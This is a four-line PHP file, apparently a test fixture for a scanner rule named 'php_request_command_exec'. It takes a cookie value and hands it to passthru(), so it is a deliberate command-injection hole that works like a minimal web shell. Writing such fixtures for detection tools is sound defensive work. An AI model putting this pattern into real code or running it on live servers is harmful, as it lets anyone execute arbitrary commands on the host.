<?php
// want: php_request_command_exec
$c = $_COOKIE['c'];
$d = trim($c);
passthru($d);
